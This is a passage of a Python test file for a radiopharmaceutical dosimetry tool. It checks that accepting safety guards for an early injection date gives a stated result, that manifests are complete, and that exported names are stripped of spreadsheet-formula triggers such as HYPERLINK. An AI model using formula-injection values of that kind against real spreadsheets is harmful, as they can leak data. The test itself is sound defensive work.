    assert len(rows) == len(set(names)) and any("HYPERLINK" in n for n in names)
    for n in names:
        assert not n.startswith(("=", "+", "-", "@", "\t", "\r")), n
        assert "\x1b" not in n and "\n" not in n
    assert is_complete(out, verify_hashes=True)
    assert tree_hashes(case.folder) == before


# ---------------------------------------------------------------------- 6. accept
ACCEPT_ONE_DAY_EARLY = ("uptake_time", "fraction_in_fov", "suv_max", "organ_dose")


def test_accept_turns_the_one_day_early_refusal_into_a_stated_result(make_case, capsys, tmp_path):
    """A one-day-early injection trips four guards in turn (the uptake time, then the
    activity found against the decayed injection, the SUV and every organ dose); accepting
    them by code gives exit 0 with each accepted finding listed in stdout and report.html."""
    case = make_case(shift_injection(days=-1))
    before = tree_hashes(case.folder)
    out = tmp_path / "out"
    # accepting only the first guard meets the next one, which names its own code
    res = run_main(capsys, plan_args(case.folder, out, "--accept", "uptake_time"))
    assert_refused(res, "fraction of the injected activity", "--accept fraction_in_fov", out=out)
    accept = [a for code in ACCEPT_ONE_DAY_EARLY for a in ("--accept", code)]
    res = run_main(capsys, plan_args(case.folder, out, *accept))
    assert res.rc == EXIT_OK, res.err
    assert res.error_lines == [] and "Traceback" not in res.err
    accepted = [line for line in res.out.splitlines() if line.startswith("[accepted]")]
    assert any("uptake time" in line and "1500 min" in line for line in accepted)
    html = (out / "report.html").read_text(encoding="utf-8")
    for code in ACCEPT_ONE_DAY_EARLY:
        assert code in html.replace("\\_", "_"), code
    assert "accepted by the user" in html and "1500 min" in html
    m = read_manifest(out)
    assert m is not None and m["status"] == "complete"
    assert tree_hashes(case.folder) == before


def test_manifest_lists_every_file_and_no_marker(baseline):
    m = json.loads((baseline.out / MANIFEST).read_text(encoding="utf-8"))
    listed = {f["path"] for f in m["files"]}
    on_disk = {
        p.relative_to(baseline.out).as_posix()
        for p in baseline.out.rglob("*")
        if p.is_file() and p.name != MANIFEST
    }
    assert listed == on_disk
    assert not any(".dosimetry-staging" in p for p in listed)
    assert m["status"] == "complete" and m["software"].startswith("dosimetry ")
